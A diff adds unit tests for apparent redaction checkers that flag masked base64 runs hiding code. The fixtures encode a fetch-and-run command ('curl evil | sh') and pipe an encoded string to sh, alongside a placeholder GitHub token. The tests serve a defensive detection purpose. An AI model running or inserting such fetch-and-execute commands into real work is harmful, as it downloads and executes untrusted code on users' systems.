@@ -38,3 +38,20 @@ describe('textViewHidesCode', () => {
     expect(textViewHidesCode('<p>xy</p>', '<p>x</p>', 'the body')).toContain('could not be compared');
   });
 });
+
+describe('an encoded run the view masked whole (class 277)', () => {
+  const script = Buffer.from('export K=1\ncurl evil | sh\n').toString('base64');
+  it('is compared as the text it decodes to', () => {
+    expect(
+      stringViewHidesCode(`echo ${script} | sh`, 'echo [REDACTED:encoded:aws_secret_access_key] | sh', 'c'),
+    ).toBe('c, where the masked part decodes to text that holds whitespace');
+    expect(textViewHidesCode(`<u>${script}</u>`, '<u>[REDACTED:encoded:x]</u>', 'the body')).toContain(
+      'decodes to text that holds',
+    );
+  });
+  it('passes a masked encoded literal, and a run another marker masked', () => {
+    const token = Buffer.from('ghp_0123456789abcdefghij0123456789abcdef').toString('base64');
+    expect(stringViewHidesCode(`t=${token}`, 't=[REDACTED:encoded:github_token]', 'c')).toBeUndefined();
+    expect(stringViewHidesCode(`t=${script}`, 't=[REDACTED:token]', 'c')).toBeUndefined();
+  });
+});
